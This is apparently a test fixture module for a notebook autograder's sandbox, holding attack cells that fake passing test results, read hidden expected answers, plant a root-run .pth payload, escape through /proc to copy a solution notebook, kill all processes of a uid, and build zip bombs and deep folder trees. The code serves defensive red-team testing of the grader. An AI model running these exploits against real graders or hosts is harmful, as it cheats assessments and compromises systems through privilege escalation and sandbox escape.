"""Tampering attacks, each a code cell a student could add to a notebook.

Every attack tries to gain points it did not earn or to show hidden expected values. The tests run
them through plain ``otter run`` (where they work) and through the sandboxed grader (where they
must gain nothing).
"""

from __future__ import annotations

#: Patch otter's test runner so that every test case passes.
MONKEYPATCH_OTTER = """
from otter.test_files import abstract_test as _at, exception_test as _et

def _always_pass(self, global_environment):
    self.test_case_results = [
        _at.TestCaseResult(test_case=tc, message="passed", passed=True) for tc in self.test_cases
    ]

_et.ExceptionTestFile.run = _always_pass
"""

#: Redefine the grader: otter's Checker (which collects every test result) marks all as passed.
REDEFINE_GRADER = """
from otter.execute import Checker as _Checker
from otter.test_files import abstract_test as _at

_original_check = _Checker.check.__func__

def _check(cls, *args, **kwargs):
    test_file = _original_check(cls, *args, **kwargs)
    test_file.test_case_results = [
        _at.TestCaseResult(test_case=tc, message="passed", passed=True)
        for tc in test_file.test_cases
    ]
    return test_file

_Checker.check = classmethod(_check)
grader = None  # and the notebook's own grader object is gone
"""

#: Make every numerical comparison succeed (numpy and torch).
MONKEYPATCH_NUMPY_TORCH = """
import numpy as _np, torch as _torch
_np.allclose = lambda *a, **k: True
_np.isclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_torch.allclose = lambda *a, **k: True
"""

#: Replace the hidden-check module through builtins.__import__ and sys.modules.
MONKEYPATCH_BUILTINS = """
import builtins as _b, sys as _sys, types as _types
_fake = _types.ModuleType("hidden_checks")
_fake.check = lambda *a, **k: None
_fake.compare = lambda *a, **k: None
_sys.modules["hidden_checks"] = _fake
_real_import = _b.__import__
_b.__import__ = lambda name, *a, **k: (
    _fake if name == "hidden_checks" else _real_import(name, *a, **k)
)
"""

#: Overwrite every test file and hidden-check module the kernel can reach with passing ones.
REWRITE_TESTS = """
import glob as _glob, os as _os, re as _re
_roots = [".", "..", "/autograder/source", "/autograder/source/files"]
for _root in _roots:
    for _path in _glob.glob(_os.path.join(_root, "tests", "*.py")):
        try:
            _head = open(_path).read().split("@test_case")[0]
            _name = _re.search(r'name = "(.*)"', _head).group(1)
            _pts = _re.search(r"points = (.*)", _head).group(1)
            _os.remove(_path)
            with open(_path, "w") as _f:
                _f.write("from otter.test_files import test_case\\nOK_FORMAT = False\\n"
                         f"name = {_name!r}\\npoints = {_pts}\\n"
                         "@test_case(points=None, hidden=False)\\ndef test_ok():\\n    pass\\n")
        except Exception:
            pass
    for _path in _glob.glob(_os.path.join(_root, "hidden_checks.py")):
        try:
            _os.remove(_path)
            with open(_path, "w") as _f:
                _f.write("CHECKS = {}\\ndef check(*a, **k):\\n    pass\\n"
                         "def compare(*a, **k):\\n    pass\\n")
        except Exception:
            pass
"""

#: Find the expected values, print them, and use them to answer q10-q12 without knowing why.
READ_EXPECTED = """
import glob as _glob, numpy as _np
_found = None
for _pattern in ["*expected*.npz", "*fixtures*.npz", "**/*expected*.npz", "/autograder/**/*.npz",
                 "/tmp/**/*expected*.npz"]:
    for _path in _glob.glob(_pattern, recursive=True):
        try:
            _found = dict(_np.load(_path))
            break
        except Exception:
            pass
    if _found:
        break
if _found:
    print("LEAKED", {k: v.tolist() for k, v in _found.items() if k.startswith("q1")})
    q10_answer = "abcd"[int(_found["q10/case0/expected_answer"])]
    q11_answer = float(_found["q11/case0/expected_answer"])
    q12_answer = float(_found["q12/case0/expected_answer"])
"""

#: Answer cells for q10-q12 come after the attack cell; the leak attack must run after them.
ANSWER_ANCHOR = "q12_answer = "

ATTACKS = {
    "monkeypatch_otter": MONKEYPATCH_OTTER,
    "redefine_grader": REDEFINE_GRADER,
    "monkeypatch_numpy_torch": MONKEYPATCH_NUMPY_TORCH,
    "monkeypatch_builtins": MONKEYPATCH_BUILTINS,
    "rewrite_tests_and_fixtures": REWRITE_TESTS,
    "read_and_print_expected": READ_EXPECTED,
}


# ---------------------------------------------------------------------------------------------
# Attacks on the grader's trust boundary (issue 8). Each is a list of code cells appended to a
# notebook (blank or solution); tests/test_trust_boundary.py grades them. They were shown to
# succeed against the grader of commit 5e3036d (see that file's docstring for how to rerun that).
# ---------------------------------------------------------------------------------------------

#: Helpers every trust-boundary attack cell may use: the grader's command line (the kernel's
#: parent process) gives the source, submission and results folders.
_GRADER_PATHS = """
import os as _os
_argv = open(f"/proc/{_os.getppid()}/cmdline", "rb").read().split(b"\\0")
_i = _argv.index(b"grading")
_SOURCE, _SUBMISSION, _RESULTS = (a.decode() for a in _argv[_i + 1 : _i + 4])
"""

#: Unless the sandbox user already owns ``_target``: swap the connection file for a link to it and
#: kill the kernel, so that the root launcher writes (and ``chown``s) ``_target`` on the restart.
_SWAP_CONNECTION = """
try:
    _ours = _os.stat(_target).st_uid == _os.getuid()
except OSError:
    _ours = False
if not _ours:
    _os.remove(".kernel-connection.json")
    _os.symlink(_target, ".kernel-connection.json")
    _os._exit(1)
"""

#: Finding 1: swap the kernel's connection file for a link to results.json, die, and let the root
#: launcher create the file for the sandbox user on the restart; then write full marks into it.
#: A lone surrogate in an error message then made the grader crash before it overwrote them.
#: A graded function whose error message holds a lone surrogate: the kernel hands it over in the
#: check's outputs, and the old grader died encoding the report (finding 3).
SURROGATE_FUNCTION = (
    'def td_target(*args, **kwargs):\n    raise ValueError("\\ud800 \\x1b[2J\\x00" + "x" * 200_000)'
)
FORGE_RESULTS = [
    _GRADER_PATHS + '_target = _os.path.join(_RESULTS, "results.json")\n' + _SWAP_CONNECTION,
    _GRADER_PATHS
    + """
import json as _json
try:
    with open(_os.path.join(_RESULTS, "results.json"), "w") as _f:
        _json.dump({"score": 35.0, "output": "FORGED", "tests": []}, _f)
except OSError:
    pass
""",
    SURROGATE_FUNCTION,
]

#: Finding 2: the same swap aimed at a .pth file in the interpreter's site-packages; once the
#: sandbox user owns it, it writes code there that the next root launcher runs at start-up: that
#: code copies the hidden expected values into the kernel's folder.
PTH_NAME = "zz_grading_attack.pth"
_PTH_PAYLOAD = (
    "import os; exec(\"if os.getuid() == 0 and b'launcher.py' in open('/proc/self/cmdline','rb')"
    ".read():\\n import json, shutil, sys\\n a = open('/proc/self/cmdline','rb').read()"
    ".split(bytes(1))\\n cfg = json.load(open([x for x in a if x.endswith(b'.json')][0]))\\n"
    " p = open('/proc/%d/cmdline' % os.getppid(),'rb').read().split(bytes(1))\\n"
    " src = p[p.index(b'grading') + 1].decode()\\n"
    " dst = os.path.join(cfg['workdir'], 'leak.npz')\\n"
    " shutil.copyfile(os.path.join(src, 'files', 'hidden_expected.npz'), dst)\\n"
    ' os.chmod(dst, 0o644)")\n'
)
_FIND_PTH = f"""
import os as _os, sys as _sys
_site = next(p for p in _sys.path if p.endswith("site-packages"))
_pth = _os.path.join(_site, {PTH_NAME!r})
"""
ROOT_VIA_PTH = [
    _FIND_PTH + "_target = _pth\n" + _SWAP_CONNECTION,
    _FIND_PTH
    + f"""
if _os.path.exists(_pth) and _os.stat(_pth).st_uid == _os.getuid() and not _os.path.exists(
    "leak.npz"
):
    with open(_pth, "w") as _f:
        _f.write({_PTH_PAYLOAD!r})
    _os._exit(1)  # the restart runs the root launcher, which runs the .pth
""",
    """
import numpy as _np, os as _os
if _os.path.exists("leak.npz"):
    _leak = dict(_np.load("leak.npz"))
    raise ValueError("LEAKED " + repr({k: v.tolist() for k, v in list(_leak.items())[:3]}))
""",
]

#: Finding 3: a lone surrogate (and terminal escapes, and a flood) in an error message.
SURROGATE_MESSAGE = [SURROGATE_FUNCTION, 'raise ValueError("\\x1b[2J\\x00" + "y" * 200_000)']

#: Finding 4: a child whose main thread exits while another thread runs shows as a zombie in
#: /proc, so "kill every process of the uid, zombies excepted" left it running.
ZOMBIE_LEADER = [
    """
import subprocess as _sp, sys as _sys
_sp.Popen([_sys.executable, "-c", "import ctypes, threading, time\\n"
           "threading.Thread(target=time.sleep, args=(3600,)).start()\\n"
           "ctypes.CDLL(None).pthread_exit(None)"], start_new_session=True)
import time as _time
_time.sleep(1)
"""
]

#: Replace the kernel-side harvester for some checks (the kernel owns it: that is allowed, it can
#: only spoil the student's own outputs). ``{plan}`` maps check -> what to do instead.
_PATCH_HARVEST = """
import _grading_kernel as _gk, io as _io, os as _os, zipfile as _zf
import numpy as _np
_real_harvest = getattr(_gk, "_real_harvest", _gk.harvest)
_gk._real_harvest = _real_harvest

def _npy_header(shape, descr="<f8"):
    _b = _io.BytesIO()
    _np.lib.format.write_array_header_1_0(
        _b, {{"descr": descr, "fortran_order": False, "shape": shape}}
    )
    return _b.getvalue()

def _bomb(path, nbytes):
    with _zf.ZipFile(path, "w", _zf.ZIP_DEFLATED) as _z:
        with _z.open("__error__.npy", "w", force_zip64=True) as _f:
            _f.write(_npy_header((nbytes // 8,)))
            _chunk = bytes(2**20)
            for _ in range(nbytes // 2**20):
                _f.write(_chunk)

def _huge_header(path):
    with _zf.ZipFile(path, "w") as _z:
        _z.writestr("__error__.npy", _npy_header((2**40,)))

def _harvest(check, namespace, out_path, *args, **kwargs):
    what = {plan}.get(check)
    if what == "crash":
        _os._exit(1)
    if what == "bomb":
        return _bomb(out_path, 2**30)
    if what == "huge_header":
        return _huge_header(out_path)
    if what == "object_array":
        _np.savez(out_path, __error__=_np.array([{{}}], dtype=object))
        return None
    return _real_harvest(check, namespace, out_path, *args, **kwargs)

_gk.harvest = _harvest
"""


def patch_harvest(plan: dict[str, str]) -> str:
    """A cell that makes the kernel answer the hidden checks in ``plan`` with an attack."""
    return _PATCH_HARVEST.format(plan=repr(plan))


#: Finding 5: one crashing cell plus one hidden check that crashes: the old grader replayed the
#: crashing cell on the check's restart, so the kernel died again and every later check was lost.
CRASH_CELL_THEN_CRASHING_CHECK = [patch_harvest({"td_target": "crash"}), "import os; os._exit(1)"]

#: Finding 7: an .npz whose header declares 2**40 doubles (MemoryError in the grader), and a
#: 1 MB deflate bomb that inflates to 1 GB, and an object array (a pickle).
NPZ_ATTACKS = [patch_harvest({"coverage": "bomb", "bcq": "huge_header", "alpha": "object_array"})]
NPZ_LOST = {"coverage", "bcq", "alpha"}

#: Finding 6: cells, then one that kills the kernel: the old grader replayed every earlier cell on
#: the restart without looking at the clock. The cells are instant on their first run and slow
#: only on a replay (the crash cell leaves a marker file in the working folder first), so the
#: crash is reached within seconds however loaded the machine is, and only the replay meets the
#: budget. The test sets ``seconds`` and the number of cells.
REPLAY_MARKER = ".crashed-once"
SLOW_ON_REPLAY_CELL = "import os, time\nif os.path.exists({marker!r}):\n    time.sleep({seconds})"
CRASH_AFTER_MARKING = f"open({REPLAY_MARKER!r}, 'w').close()\nimport os; os._exit(1)"

#: Finding 8 and the scratch tree: what the kernel can see of the machine. Each probe raises with
#: what it found, so the report shows it (the test reads it there).
PROBES = [
    """
import pathlib as _pl, sys as _sys
_checkout = _pl.Path(_sys.executable).parents[2]
_readable = []
_globs = ["autograder/*/autograder.zip", "build/*/hidden_expected*", "reference/offline_rl/*.py"]
for _p in [_f for _g in _globs for _f in _checkout.glob(_g)]:
    try:
        _p.read_bytes()[:1]
        _readable.append(str(_p))
    except OSError:
        pass
if _readable:
    raise ValueError(f"LEAKED-CHECKOUT {len(_readable)} files, e.g. {_readable[:2]}")
""",
    """
import importlib.util as _u
if _u.find_spec("offline_rl.algorithms") is not None:
    import offline_rl.algorithms
    raise ValueError("LEAKED-REFERENCE " + offline_rl.algorithms.__file__)
""",
    _GRADER_PATHS
    + """
_seen = []
for _d in (_RESULTS, _SOURCE, _os.path.join(_SOURCE, "files")):
    try:
        _seen.append(f"{_d}: {sorted(_os.listdir(_d))[:5]}")
    except OSError:
        pass
if _seen:
    raise ValueError("LEAKED-FOLDERS " + "; ".join(_seen))
""",
    """
import os as _os, resource as _rs, stat as _st
raise ValueError(
    f"PROBE uid={_os.getuid()} workdir={oct(_st.S_IMODE(_os.stat('.').st_mode))} "
    f"scratch_listable={_os.access('..', _os.R_OK)} "
    f"open_files={max(_rs.getrlimit(_rs.RLIMIT_NOFILE))}"
)
""",
]


# ---------------------------------------------------------------------------------------------
# Attacks of the second review (issue 20). Each broke the grader of commit 072e724, the last one
# before the sandbox moved into namespaces (bubblewrap); tests/test_trust_boundary.py grades them.
# ---------------------------------------------------------------------------------------------

#: Where the kernel's Python lives says where the checkout is (the venv is .venv of it).
_CHECKOUT = """
import os as _os, sys as _sys
_checkout = _os.path.dirname(_os.path.dirname(_os.path.dirname(_sys.executable)))
_solution = _os.path.join(_checkout, "autograder", "offline_rl", "offline_rl-solution.ipynb")
"""

#: Finding 1 (issue 20): the old grader killed a run's processes through a helper started *as
#: the sandbox uid* outside the jail. A background process of the kernel waits for it, stops it
#: (same uid), and opens ``/proc/<helper>/root``: the host's ``/``. Through it, it copies the
#: solution notebook of the checkout; an ``os._exit`` forces the restart that starts the helper;
#: the last cell runs the stolen solution, so a blank notebook gets full marks.
HELPER_ROOT = [
    _CHECKOUT
    + """
_watcher = r'''
import os, shutil, signal, sys, time
target, out = sys.argv[1], sys.argv[2]
end = time.monotonic() + 300
while time.monotonic() < end and not os.path.exists(out):
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            if b"kill(-1" not in open(f"/proc/{pid}/cmdline", "rb").read():
                continue
            os.kill(int(pid), signal.SIGSTOP)
            time.sleep(0.05)
            shutil.copyfile(f"/proc/{pid}/root" + target, out + ".part")
            os.rename(out + ".part", out)
        except OSError:
            pass
        finally:
            try:
                os.kill(int(pid), signal.SIGCONT)
            except OSError:
                pass
'''
import subprocess as _sp
if not _os.path.exists("stolen.ipynb"):
    _sp.Popen([_sys.executable, "-c", _watcher, _solution, _os.path.abspath("stolen.ipynb")],
              start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
""",
    'import os as _os\nif not _os.path.exists("stolen.ipynb"):\n    _os._exit(1)',
    """
import json as _json, os as _os
if _os.path.exists("stolen.ipynb"):
    for _cell in _json.load(open("stolen.ipynb"))["cells"]:
        _src = "".join(_cell["source"])
        _tags = _cell.get("metadata", {}).get("tags", [])
        if _cell["cell_type"] != "code" or "otter_ignore" in _tags or "grader" in _src:
            continue
        try:
            exec(_src, globals())
        except Exception:
            pass
    print("LEAKED-HOST: ran the stolen solution")
""",
]

#: Finding 2 (issue 20): a background process that SIGKILLs everything its uid may signal, in a
#: loop: the old grader's kill helper died the moment it became that uid, the grading failed,
#: the guardian outlived the run, and the next grading on that uid failed too.
GUARDIAN = [
    """
import subprocess as _sp, sys as _sys
_sp.Popen([_sys.executable, "-c", "import os, signal\\nwhile True:\\n    try:\\n"
           "        os.kill(-1, signal.SIGKILL)\\n    except OSError:\\n        pass\\n"],
          start_new_session=True)
import time as _time
_time.sleep(2)
"""
]

#: Finding 3 (issue 20): a folder tree 1500 deep, the top one closed (mode 0): shutil.rmtree
#: recursed, raised RecursionError, and the old grader failed (a solution scored 0) and left the
#: tree in /tmp.
DEEP_TREE = [
    """
import os as _os
_top = _os.getcwd()
_os.mkdir("deep")
_os.chdir("deep")
for _ in range(1500):
    _os.mkdir("d")
    _os.chdir("d")
    open("f", "w").close()
_os.chdir(_top)
_os.chmod("deep", 0)
"""
]

#: Finding 5 (issue 20): shared memory that outlives the run: a SysV segment anyone may attach
#: (a channel to later gradings, RAM outside RLIMIT_DATA), a /dev/shm file and a /tmp file.
#: ``SHM_KEY`` lets a later kernel find the segment.
SHM_KEY = 0x0F1E20
SHARED_MEMORY = [
    f"""
import ctypes as _ct, os as _os
_libc = _ct.CDLL(None, use_errno=True)
_id = _libc.shmget({SHM_KEY}, 2**20, 0o1000 | 0o666)  # IPC_CREAT | rw for everyone
for _path in ("/dev/shm/grading-leftover", "/tmp/grading-leftover"):
    try:
        with open(_path, "wb") as _f:
            _f.write(bytes(2**20))
    except OSError:
        pass
"""
]

#: Issue 20: what a kernel sees of the host, each probe raising with what it found so that the
#: report shows it. PROBE_PORT_FILE (shipped in files/ by the test) names a TCP port the test
#: listens on at 127.0.0.1: a kernel with network reaches it. The test also holds a SysV segment
#: and a /dev/shm file of its own while the kernel looks (another run's, as far as it knows).
PROBE_PORT_FILE = "probe_port.txt"
HOST_PROBES = [
    """
import os as _os
_seen = {}
for _d in ("/", "/etc", "/root", "/work", "/home", "/var", "/opt", "/srv", "/run", "/mnt"):
    try:
        _seen[_d] = sorted(_os.listdir(_d))
    except OSError:
        pass
_pids = [int(p) for p in _os.listdir("/proc") if p.isdigit()]
try:
    _init = open("/proc/1/cmdline", "rb").read().split(b"\\0")[0].decode()
except OSError:
    _init = "?"
raise ValueError(f"HOSTVIEW {_seen!r} PIDS {len(_pids)} MAXPID {max(_pids)} INIT {_init} END")
""",
    f"""
import socket as _socket
_port = int(open({PROBE_PORT_FILE!r}).read())
_s = _socket.socket()
_s.settimeout(2)
try:
    _s.connect(("127.0.0.1", _port))
    _net = "NETWORK-REACHED"
except OSError as _err:
    _net = f"no network ({{_err.errno}})"
raise ValueError(_net)
""",
    """
import ctypes as _ct, os as _os, time as _time
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmget(0x0F1E21 + _os.getuid() % 1000, 4096, 0o1000 | 0o600)  # one of our own
open("/dev/shm/probe-" + str(_os.getuid()), "w").close()
_lines = open("/proc/sysvipc/shm").read().splitlines()[1:]
_col = open("/proc/sysvipc/shm").read().splitlines()[0].split().index("uid")
_foreign = [ln.split()[_col] for ln in _lines if int(ln.split()[_col]) != _os.getuid()]
_shm = [n for n in _os.listdir("/dev/shm") if n != "probe-" + str(_os.getuid())]
raise ValueError(f"IPCVIEW foreign_shm={len(_foreign)} foreign_dev_shm={len(_shm)} END")
""",
]


#: Red team rt9 (zmq-maxmsgsize): ONE iopub message of 60 MB. The 16 MB cap was set on sockets
#: already connected, where libzmq never applies it, so the grader took the whole message in.
ONE_HUGE_MESSAGE = [
    """
_k = get_ipython().kernel
_k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": "y" * 60_000_000},
                parent=_k.get_parent())
import time as _t
_t.sleep(3)
"""
]
